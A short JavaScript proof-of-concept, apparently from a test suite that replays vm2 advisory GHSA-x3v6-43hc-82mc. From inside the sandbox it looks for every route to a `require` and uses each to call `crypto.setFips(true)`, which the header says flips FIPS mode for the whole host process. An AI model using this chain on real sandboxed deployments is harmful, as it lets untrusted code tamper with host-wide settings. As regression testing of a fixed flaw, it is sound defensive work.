// Source: vm2 advisory GHSA-x3v6-43hc-82mc (test/ghsa/GHSA-x3v6-43hc-82mc/ in vm2's repository; fixed after vm2 3.11.2, by 3.12.2): `crypto.setFips(true)` flipped FIPS mode for the whole host process.
// The chain below follows the advisory's repro.js, or vm2's lib/ comment for it where the repro was not read.
// NodeVM only: the advisory needs NodeVM's `require`. A scenario runs in a plain vm2 VM with no
// `require`, `module` or `process`, so the PoC first looks for every way to a `require` the public
// PoCs use (`__wr.eachRequire`), then runs the advisory's chain with whatever it found.
// Tried: crypto.setFips(true).
const out = {};
await __wr.eachRequire(out, async (req, label) => {
  try {
    req('crypto').setFips(true);
  } catch (e) { out[label + 'Chain'] = String(e && e.message).slice(0, 60); }
});
return out;
